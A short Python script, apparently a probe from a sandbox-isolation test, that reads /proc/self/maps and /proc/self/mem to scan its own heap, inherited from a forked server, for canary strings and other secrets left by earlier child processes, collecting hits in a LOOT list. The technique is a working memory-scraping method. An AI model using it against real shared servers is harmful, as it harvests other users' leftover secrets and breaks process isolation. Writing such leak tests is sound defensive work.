"""Searches its own memory, inherited from the server, for what earlier children left."""
import re

WANTED = re.compile(rb"CANARY-[0-9a-f]{16}|FACTOR-[0-9]+|[\w.]+ \* x")


def hunt(data):
    """Return what looks like a secret in some bytes."""
    return [found[:100] for found in WANTED.findall(data) if b"[" not in found][:50]


with open("/proc/self/maps") as maps:
    areas = [line.split() for line in maps]
try:
    memory = open("/proc/self/mem", "rb", 0)
    for area in areas:
        start, end = (int(part, 16) for part in area[0].split("-"))
        if area[1].startswith("rw") and end - start < 64 << 20 and (len(area) < 6 or "heap" in area[5]):
            memory.seek(start)
            for found in hunt(memory.read(end - start)):
                if b"CANARY" in found:
                    LOOT.append(repr(found))
except OSError as error:
    LOOT.append(repr(error))
